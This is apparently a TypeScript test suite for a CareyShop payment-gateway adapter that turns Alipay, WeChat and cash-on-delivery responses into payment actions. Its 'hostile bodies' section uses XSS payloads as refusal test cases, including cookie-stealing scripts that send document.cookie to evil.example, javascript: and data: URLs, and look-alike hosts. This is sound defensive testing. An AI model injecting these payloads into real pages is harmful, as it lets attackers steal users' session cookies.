import { expect } from '@open-wc/testing';
import { ALIPAY_HOSTS } from '../../../src/core/safe-url.js';
import { careyshop } from '../../../src/gateways/careyshop.js';
import { registerGateway, type ToActionOptions, toAction } from '../../../src/gateways/registry.js';
import {
  ALIPAY_CERT_PAGE_PAY_FORM,
  ALIPAY_PAGE_PAY_FORM,
  ALIPAY_PRETTY_CERT_FORM,
  ALIPAY_WAP_PAY_FORM,
  APP_WECHAT_RESPONSE,
  APP_WECHAT_TOKEN,
  COD_ERROR_PAGE,
  COD_SUCCESS_PAGE,
  ERROR_WITHOUT_DATA,
  errorResponse,
  ORDER_APP_ALIPAY_RESPONSE,
  ORDER_APP_ALIPAY_TOKEN,
  PRETTY_BIZ_CONTENT,
  SEED_APP_ALIPAY_RESPONSE,
  SEED_APP_ALIPAY_TOKEN,
  SETTLED_RESPONSE,
  THINKPHP_DEBUG_RESPONSE,
  WECHAT_CODE_URL,
  WECHAT_JSAPI_PARAMETERS,
  WECHAT_QR_IMG,
  wechatJsapiScript,
} from './fixtures/careyshop.js';
import { expectRefused } from './helpers.js';

registerGateway('careyshop', careyshop);

const classify = (response: unknown, options: ToActionOptions = {}) => toAction('careyshop', response, options);

const ACTION = 'https://openapi.alipay.com/gateway.do?charset=UTF-8';
const NOTIFY_URL = 'http://careyshop.oruei.com/api/v1/payment/method/put.payment.data/to_payment/2/type/notify.html';
const RETURN_URL = 'http://careyshop.oruei.com/api/v1/payment/method/put.payment.data/to_payment/2/type/return.html';

describe('careyshop adapter', () => {
  describe('§3.1 request_type=app (JSON with an SDK token)', () => {
    it('app, Alipay: the seed 002 order string -> sdk-token alipay, byte for byte', () => {
      const action = classify(SEED_APP_ALIPAY_RESPONSE);
      expect(action).to.deep.equal({
        kind: 'sdk-token',
        sdk: 'alipay',
        token: SEED_APP_ALIPAY_TOKEN,
        gateway: 'careyshop',
      });
      expect(action.kind === 'sdk-token' && action.token === SEED_APP_ALIPAY_TOKEN).to.equal(true);
    });

    it('app, Alipay: a signed token with total_amount 0.10000000000000001 -> the identical string', () => {
      const action = classify(ORDER_APP_ALIPAY_RESPONSE);
      expect(action).to.deep.equal({
        kind: 'sdk-token',
        sdk: 'alipay',
        token: ORDER_APP_ALIPAY_TOKEN,
        gateway: 'careyshop',
      });
      expect(action.kind === 'sdk-token' && action.token).to.have.string('%22total_amount%22%3A0.10000000000000001%2C');
    });

    it('app, Alipay: an already-parsed envelope -> the same token', () => {
      const action = classify(JSON.parse(SEED_APP_ALIPAY_RESPONSE));
      expect(action).to.deep.equal({
        kind: 'sdk-token',
        sdk: 'alipay',
        token: SEED_APP_ALIPAY_TOKEN,
        gateway: 'careyshop',
      });
    });

    it('app, WeChat: {appid, partnerid, prepayid, noncestr, timestamp, package, sign} -> sdk-token wechat, unchanged', () => {
      expect(classify(APP_WECHAT_RESPONSE)).to.deep.equal({
        kind: 'sdk-token',
        sdk: 'wechat',
        token: APP_WECHAT_TOKEN,
        gateway: 'careyshop',
      });
      const envelope = { status: 200, message: 'success', data: { ...APP_WECHAT_TOKEN, extra: 'kept' } };
      const action = classify(envelope);
      // The very object received, unknown keys included: nothing is rebuilt.
      expect(action.kind === 'sdk-token' && action.token).to.equal(envelope.data);
    });

    it('app, WeChat: a token without sign -> missing_field data.sign', () => {
      const { sign: _sign, ...unsigned } = APP_WECHAT_TOKEN;
      const error = expectRefused(() => classify({ status: 200, message: 'success', data: unsigned }), 'missing_field');
      expect(error).to.have.property('field', 'data.sign');
    });

    it('app, Alipay: a string that is not an order string -> invalid_field', () => {
      expectRefused(() => classify({ status: 200, message: 'success', data: '<form></form>' }), 'invalid_field');
    });
  });

  describe('§3.2 request_type=web (raw HTML)', () => {
    it('web, Alipay (PC and ordinary mobile browsers): alipay.trade.page.pay form -> form POST, every field in order', () => {
      const action = classify(ALIPAY_PAGE_PAY_FORM);
      expect(action).to.deep.equal({
        kind: 'form',
        hosts: ALIPAY_HOSTS,
        action: ACTION,
        method: 'POST',
        fields: {
          biz_content: String.raw`{"product_code":"FAST_INSTANT_TRADE_PAY","body":"Carey's \"VIP\" <gift> & card","subject":"账号充值","total_amount":0.01,"out_trade_no":"ZF_I6049447479650480001"}`,
          app_id: '2017062407558727',
          version: '1.0',
          format: 'json',
          sign_type: 'RSA2',
          method: 'alipay.trade.page.pay',
          timestamp: '2020-08-03 14:41:14',
          alipay_sdk: 'alipay-sdk-PHP-4.11.14.ALL',
          notify_url: NOTIFY_URL,
          return_url: RETURN_URL,
          charset: 'UTF-8',
          sign: 'H7gLlu6KJofEisd7hkoQz/7lsQt+tT5E6g6AfrjzYoRN4++qXQkERH2Usr6nY6JOywcCeSvrqhGNaqu8hKYiuYAg/Fju2ZOhacpSqzZ8QKGal76FM9ShJBbgbQZ1VBfAue2mrGQph2TQMQ6gokQZQFG/Tsu/CQgWWpg8y5T6ssvLQUPgqpLtjwJKRYnZSgSbgz/cAFa1985EeCNvC2n2pWTmOgld+J3y2MplP5AMwgKpDnNaPRxBjU8sFCcBzAKthOwNjaw1A7B+RpqKGvRBqLOhOoo2kfZn+LIMqqA29dgeffymK1m+Mn6nX6DeQ1jRPi5Gi9Ci5aZMshuKTVdCYQ==',
        },
        gateway: 'careyshop',
      });
      expect(action.kind === 'form' && Object.keys(action.fields)).to.deep.equal([
        'biz_content',
        'app_id',
        'version',
        'format',
        'sign_type',
        'method',
        'timestamp',
        'alipay_sdk',
        'notify_url',
        'return_url',
        'charset',
        'sign',
      ]);
    });

    it('web, Alipay (inside the Alipay app): alipay.trade.wap.pay form -> form POST', () => {
      const action = classify(ALIPAY_WAP_PAY_FORM);
      expect(action).to.deep.include({ kind: 'form', action: ACTION, method: 'POST', gateway: 'careyshop' });
      expect(action.kind === 'form' && action.fields).to.deep.include({
        biz_content:
          '{"product_code":"FAST_INSTANT_TRADE_PAY","body":"","subject":"订单付款","total_amount":0.10000000000000001,"out_trade_no":"ZF_I6049564866510590001"}',
        method: 'alipay.trade.wap.pay',
        timestamp: '2020-08-03 15:00:48',
      });
    });

    it('web, Alipay: a form action host outside ALIPAY_HOSTS is accepted only through allowedHosts', () => {
      const sandbox = ALIPAY_PAGE_PAY_FORM.replace(ACTION, 'https://alipay-sim.sandbox.test/gateway.do?charset=UTF-8');
      expectRefused(() => classify(sandbox), 'host_not_allowed');
      expect(classify(sandbox, { allowedHosts: ['alipay-sim.sandbox.test'] })).to.deep.include({
        kind: 'form',
        action: 'https://alipay-sim.sandbox.test/gateway.do?charset=UTF-8',
      });
    });

    it('web, WeChat (no MicroMessenger): CareyShop QR renderer <img> -> qr of the decoded text, image never loaded', async () => {
      const src = new URL(
        `/api/v1/qrcode/method/get.qrcode.item.html?text=${encodeURIComponent(WECHAT_CODE_URL)}`,
        location.href,
      ).href;
      expect(classify(WECHAT_QR_IMG)).to.deep.equal({ kind: 'qr', content: WECHAT_CODE_URL, gateway: 'careyshop' });
      expect(classify(`<img src="${src}"/>`)).to.deep.equal({
        kind: 'qr',
        content: WECHAT_CODE_URL,
        gateway: 'careyshop',
      });
      await new Promise((resolve) => setTimeout(resolve, 150));
      expect(performance.getEntriesByName(src)).to.have.length(0);
    });

    it('web, WeChat: a text encoded twice by the URL builder -> the same qr', () => {
      const twice = WECHAT_QR_IMG.replace(
        'weixin%3A%2F%2Fwxpay%2Fbizpayurl%3Fpr%3DXq8nQ3Lzz',
        encodeURIComponent(encodeURIComponent(WECHAT_CODE_URL)),
      );
      expect(twice).to.have.string('weixin%253A%252F%252F');
      expect(classify(twice)).to.deep.equal({ kind: 'qr', content: WECHAT_CODE_URL, gateway: 'careyshop' });
    });

    it('web, WeChat (MicroMessenger): the JSAPI demo <script> -> wechat-jsapi, never run', () => {
      const state = window as unknown as { WeixinJSBridge?: unknown };
      let invoked = false;
      state.WeixinJSBridge = { invoke: () => (invoked = true) };
      try {
        expect(classify(wechatJsapiScript())).to.deep.equal({
          kind: 'wechat-jsapi',
          params: {
            appId: 'wx2421b1c4370ec43b',
            timeStamp: '1596436874',
            nonceStr: '5K8264ILTKCH16CQ2502SI8ZNMTM67VS',
            package: 'prepay_id=wx03143114692431a1b3e7d6c11437035400',
            signType: 'MD5',
            paySign: 'C380BEC2BFD727A4B6845133519F3AD6',
          },
          gateway: 'careyshop',
        });
      } finally {
        delete state.WeixinJSBridge;
      }
      expect(invoked).to.equal(false);
    });

    it('web, WeChat (MicroMessenger): the same script re-indented with CRLF line endings -> wechat-jsapi', () => {
      const reformatted = wechatJsapiScript().replace(/\t+/g, '  ').replace(/\n/g, '\r\n');
      expect(classify(reformatted)).to.deep.include({ kind: 'wechat-jsapi' });
    });

    it('web, COD: refresh page to payment.success -> redirect, query encoded as the browser would', () => {
      expect(classify(COD_SUCCESS_PAGE)).to.deep.equal({
        kind: 'redirect',
        url: 'https://shop.example.com/payment/success?info=%E6%94%AF%E4%BB%98%E7%BB%93%E7%AE%97%E5%AE%8C%E6%88%90&payment_no=ZF_I6049447479650480001',
        gateway: 'careyshop',
      });
    });

    it('web, COD: refresh page to payment.error -> redirect', () => {
      expect(classify(COD_ERROR_PAGE)).to.deep.equal({
        kind: 'redirect',
        url: 'https://shop.example.com/payment/error?info=%E6%94%AF%E4%BB%98%E7%BB%93%E7%AE%97%E5%A4%B1%E8%B4%A5&payment_no=ZF_I6049447479650480001',
        gateway: 'careyshop',
      });
    });

    it('order.payment.pay, balance or zero total: {status:200, message:"success", data:true} -> success', () => {
      expect(classify(SETTLED_RESPONSE)).to.deep.equal({ kind: 'success', gateway: 'careyshop' });
    });
  });

  describe('§3.3 errors: {status, message, data:null} -> failed(String(status), message)', () => {
    const errors: [number, string][] = [
      [500, '支付方式不可用'],
      [500, '支付金额发生变化，请重新创建订单'],
      [500, '订单已完成支付'],
      [500, '商户私钥不能为空'],
      [401, 'token已过期'],
      [401, '未授权或授权已过期'],
      [403, '权限不足'],
    ];
    for (const [status, message] of errors) {
      it(`${status} ${message} -> failed`, () => {
        expect(classify(errorResponse(status, message))).to.deep.equal({
          kind: 'failed',
          code: String(status),
          message,
          gateway: 'careyshop',
        });
      });
    }

    it('an envelope without status -> missing_field', () => {
      expectRefused(() => classify({ message: 'success', data: true }), 'missing_field');
    });
  });

  describe('§7 real answers seen in the wild', () => {
    it('real answer: an error body without data is a failure with its status and message', () => {
      expect(classify(ERROR_WITHOUT_DATA)).to.deep.equal({
        kind: 'failed',
        code: '500',
        message: '支付方式不存在',
        gateway: 'careyshop',
      });
    });

    it('real answer: a success envelope without data is still refused (nothing to act on)', () => {
      const error = expectRefused(() => classify('{"status": 200, "message": "success"}'), 'missing_field');
      expect(error).to.have.property('field', 'data');
    });

    it('real answer: a ThinkPHP debug body {code: 0, message, traces} without status is a failure with code "0" and its message', () => {
      expect(classify(THINKPHP_DEBUG_RESPONSE)).to.deep.equal({
        kind: 'failed',
        code: '0',
        message: 'Call to a member function toArray() on null',
        gateway: 'careyshop',
      });
    });

    it('real answer: a ThinkPHP debug body of a database error keeps its SQLSTATE code as given', () => {
      const body = {
        code: '42S22',
        message: "SQLSTATE[42S22]: Column not found: 1054 Unknown column 'is_inpour' in 'where clause'",
        traces: [],
      };
      expect(classify(body)).to.deep.equal({
        kind: 'failed',
        code: '42S22',
        message: body.message,
        gateway: 'careyshop',
      });
    });

    it('real answer: a debug-looking body without a message or code is still refused', () => {
      expectRefused(() => classify({ code: 0, traces: [] }), 'missing_field');
      expectRefused(() => classify({ message: 'boom', traces: [] }), 'missing_field');
      expectRefused(() => classify({ code: 0, message: 'boom', traces: 'none' }), 'invalid_field');
    });

    it('real answer: an Alipay form in certificate mode (app_cert_sn, alipay_root_cert_sn) -> form POST with both, in order', () => {
      const action = classify(ALIPAY_CERT_PAGE_PAY_FORM);
      expect(action).to.deep.include({ kind: 'form', action: ACTION, method: 'POST', gateway: 'careyshop' });
      expect(action.kind === 'form' && action.fields).to.deep.include({
        app_cert_sn: '50fa7bc5dc305a4fbdbe166689ddc827',
        alipay_root_cert_sn: '687b59193f3f462dd5336e5abf83c5d8_02941eef3187dddf3d3b83462e1dfcf6',
        method: 'alipay.trade.page.pay',
      });
      expect(action.kind === 'form' && Object.keys(action.fields).slice(-4)).to.deep.equal([
        'charset',
        'app_cert_sn',
        'alipay_root_cert_sn',
        'sign',
      ]);
    });

    it('real answer: a pretty-printed, multi-line biz_content -> passed on byte for byte, newlines and indentation kept', () => {
      const action = classify(ALIPAY_PRETTY_CERT_FORM);
      expect(action).to.deep.include({ kind: 'form', action: ACTION, method: 'POST', gateway: 'careyshop' });
      const bizContent = action.kind === 'form' ? action.fields.biz_content : undefined;
      expect(bizContent).to.equal(PRETTY_BIZ_CONTENT);
      expect(bizContent).to.have.string(
        '{\n    "product_code": "FAST_INSTANT_TRADE_PAY",\n    "body": "Carey\'s gift card",',
      );
      expect(action.kind === 'form' && action.fields.app_cert_sn).to.equal('50fa7bc5dc305a4fbdbe166689ddc827');
    });
  });

  describe('§3.4 hostile and unexpected bodies', () => {
    const SCRIPT = "<script>document.forms['alipaysubmit'].submit();</script>";

    it('a second <script> after the form -> unexpected_markup', () => {
      expectRefused(
        () => classify(`${ALIPAY_PAGE_PAY_FORM}<script>fetch('https://evil.example/'+document.cookie)</script>`),
        'unexpected_markup',
      );
    });

    it('an <img onerror> beside the form -> unexpected_markup', () => {
      expectRefused(
        () => classify(ALIPAY_PAGE_PAY_FORM.replace(SCRIPT, `<img src=x onerror="alert(1)">${SCRIPT}`)),
        'unexpected_markup',
      );
    });

    it('an on* attribute on a hidden input -> unexpected_markup', () => {
      const html = ALIPAY_PAGE_PAY_FORM.replace("name='app_id'", "name='app_id' onfocus='alert(1)' autofocus");
      expectRefused(() => classify(html), 'unexpected_markup');
    });

    it('a data: form action -> unsafe_url_scheme', () => {
      const html = ALIPAY_PAGE_PAY_FORM.replace(ACTION, 'data:text/html,<script>alert(1)</script>');
      expectRefused(() => classify(html), 'unsafe_url_scheme');
    });

    it('a javascript: form action, hidden behind whitespace -> unsafe_url_scheme', () => {
      const html = ALIPAY_PAGE_PAY_FORM.replace(ACTION, ' java&#x09;script:alert(1)');
      expectRefused(() => classify(html), 'unsafe_url_scheme');
    });

    it('a look-alike action host openapi.alipay.com.evil.example -> host_not_allowed', () => {
      const html = ALIPAY_PAGE_PAY_FORM.replace(
        ACTION,
        'https://openapi.alipay.com.evil.example/gateway.do?charset=UTF-8',
      );
      expectRefused(() => classify(html), 'host_not_allowed');
    });

    it('two <form>s -> unexpected_markup', () => {
      expectRefused(() => classify(ALIPAY_PAGE_PAY_FORM + ALIPAY_WAP_PAY_FORM), 'unexpected_markup');
      const nested = ALIPAY_PAGE_PAY_FORM.replace(
        "<input type='hidden' name='app_id'",
        "<form action='https://evil.example/'><input type='hidden' name='app_id'",
      );
      expectRefused(() => classify(nested), 'unexpected_markup');
    });

    it('a form that is not the Alipay SDK form (another name, or GET) -> unexpected_markup', () => {
      expectRefused(() => classify(ALIPAY_PAGE_PAY_FORM.replaceAll('alipaysubmit', 'paysubmit')), 'unexpected_markup');
      expectRefused(() => classify(ALIPAY_PAGE_PAY_FORM.replace("method='POST'", "method='GET'")), 'unexpected_markup');
    });

    it('a body over 256 KiB -> too_large', () => {
      const padded = ALIPAY_PAGE_PAY_FORM.replace("value='ok'", `value='${'o'.repeat(256 * 1024)}'`);
      expectRefused(() => classify(padded), 'too_large');
    });

    it('a JSAPI script with statements outside the template -> unexpected_markup', () => {
      const extra = wechatJsapiScript().replace(
        '\tcallpay();\n',
        "\tcallpay();\n\tnew Image().src='https://evil.example/'+document.cookie;\n",
      );
      expectRefused(() => classify(extra), 'unexpected_markup');
      const inside = wechatJsapiScript().replace("location.href='/';", "location.href='https://evil.example/';");
      expectRefused(() => classify(inside), 'unexpected_markup');
    });

    it('a JSAPI script whose parameters are not a flat JSON object -> unexpected_markup / invalid_json', () => {
      expectRefused(() => classify(wechatJsapiScript('{"appId":{"x":1}}')), 'unexpected_markup');
      expectRefused(() => classify(wechatJsapiScript("{appId:'wx'}")), 'invalid_json');
    });

    it('JSAPI parameters missing paySign -> missing_field', () => {
      const params = wechatJsapiScript(WECHAT_JSAPI_PARAMETERS.replace(/,"paySign":"[^"]*"/, ''));
      const error = expectRefused(() => classify(params), 'missing_field');
      expect(error).to.have.property('field', 'paySign');
    });

    it('JSAPI parameters with a numeric timeStamp or an extra key -> invalid_field', () => {
      expectRefused(
        () => classify(wechatJsapiScript(WECHAT_JSAPI_PARAMETERS.replace('"1596436874"', '1596436874'))),
        'invalid_field',
      );
      expectRefused(
        () => classify(wechatJsapiScript(WECHAT_JSAPI_PARAMETERS.replace('{', '{"redirect":"https://evil.example/",'))),
        'invalid_field',
      );
    });

    it('a WeChat <img> whose text is not a weixin:// or https code -> unexpected_markup', () => {
      for (const text of ['javascript:alert(1)', 'http://evil.example/', 'data:text/plain,x', '']) {
        const html = WECHAT_QR_IMG.replace(
          'weixin%3A%2F%2Fwxpay%2Fbizpayurl%3Fpr%3DXq8nQ3Lzz',
          encodeURIComponent(text),
        );
        expectRefused(() => classify(html), 'unexpected_markup');
      }
    });

    it('a WeChat <img> that is not the CareyShop QR renderer -> unexpected_markup', () => {
      const text = encodeURIComponent(WECHAT_CODE_URL);
      for (const src of [
        `https://evil.example/tracker.gif?text=${text}`,
        `https://careyshop.oruei.com/api/v1/qrcode/method/get.qrcode.item.html?text=${text}&text=${text}`,
        `/api/v1/qrcode/method/get.qrcode.item.html?text=${text}`,
      ]) {
        expectRefused(() => classify(`<img src="${src}"/>`), 'unexpected_markup');
      }
    });

    it('a WeChat <img> with an on* attribute -> unexpected_markup', () => {
      expectRefused(() => classify(WECHAT_QR_IMG.replace('/>', ' onload="alert(1)"/>')), 'unexpected_markup');
    });

    it('a COD refresh to a javascript: or relative target -> unsafe_url_scheme / relative_url', () => {
      const page = (url: string) => `<head><meta http-equiv="refresh" content="0; url=${url}"><title></title></head>`;
      expectRefused(() => classify(page('javascript:alert(1)')), 'unsafe_url_scheme');
      expectRefused(() => classify(page('/payment/success?info=x')), 'relative_url');
    });

    it('an HTML page that matches no CareyShop template -> unexpected_markup', () => {
      expectRefused(() => classify('<html><body><h1>502 Bad Gateway</h1></body></html>'), 'unexpected_markup');
      expectRefused(() => classify(''), 'unexpected_markup');
    });
  });
});
